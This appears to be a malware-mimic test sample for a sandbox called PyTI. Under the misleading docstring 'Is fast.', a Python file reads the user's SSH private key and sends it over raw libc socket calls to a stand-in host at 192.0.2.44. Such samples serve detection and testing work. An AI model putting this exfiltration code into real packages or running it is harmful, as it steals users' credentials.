"""Is fast."""

import ctypes
import os

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
libc = ctypes.CDLL(None)
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
# struct sockaddr_in: family, port, 192.0.2.44, padding.
address = (2).to_bytes(2, "little") + (9443).to_bytes(2, "big") + bytes([192, 0, 2, 44]) + bytes(8)
line = libc.socket(2, 1, 0)
if libc.connect(line, address, len(address)) == 0:
    libc.write(line, key, len(key))
libc.close(line)
